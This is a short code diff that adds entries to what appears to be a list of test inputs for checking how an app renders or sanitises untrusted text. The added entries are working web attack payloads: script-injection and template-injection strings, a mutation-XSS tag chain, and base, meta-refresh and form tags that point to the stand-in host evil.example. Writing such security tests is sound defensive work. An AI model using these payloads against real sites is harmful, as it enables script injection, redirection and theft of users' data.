@@ -94,6 +94,13 @@ export const journeys = {
       "{{constructor.constructor('alert(1)')()}}",
       "</code></pre><iframe srcdoc='<script>alert(1)</script>'>",
       "‮txt.exe",
+      "${7*7}<%= 7*7 %>#{7*7}",
+      "<a href='javascript:alert(1)'>a</a>",
+      "<style>body{display:none}</style>",
+      "<base href='http://evil.example'>",
+      "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+      "<form action='http://evil.example'><button autofocus>",
+      "<math><mtext></form><form><mglyph><svg><mtext><img src onerror=alert(1)>",
       "a\u0000b".replace("\u0000", "\u2028"),
     ];
     const files = {};
